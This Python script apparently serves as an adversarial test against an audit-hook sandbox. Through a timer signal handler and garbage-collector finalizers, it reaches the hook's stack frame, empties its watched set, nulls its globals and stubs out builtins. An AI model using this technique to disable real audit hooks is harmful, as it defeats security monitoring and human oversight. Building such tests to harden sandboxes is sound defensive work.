"""Gets at the frame of the audit hook from a signal handler and from finalizers, and tries to disarm it."""

import gc
import os
import signal
import sys

seen = []


def disarm(frame):
    while frame is not None:
        if "watched" in frame.f_locals:
            seen.append(frame)
            frame.f_locals["watched"] = frozenset()
            for name in list(frame.f_globals):
                if not name.startswith("__"):
                    frame.f_globals[name] = None
            for name in ("len", "type", "isinstance"):
                frame.f_builtins[name] = lambda *_: 0
        frame = frame.f_back


class Cycle:
    def __init__(self):
        self.me = self

    def __del__(self):
        disarm(sys._getframe().f_back)


def attack():
    signal.signal(signal.SIGVTALRM, lambda _number, frame: disarm(frame))
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.0005, 0.0005)
    gc.set_threshold(1)
    for _ in range(4000):
        Cycle()
        open(os.devnull).close()
    signal.setitimer(signal.ITIMER_VIRTUAL, 0)
    gc.set_threshold(700)
    print("hook frames", len(seen))
    gc.get_objects()
    raise SystemError("nobody refused")
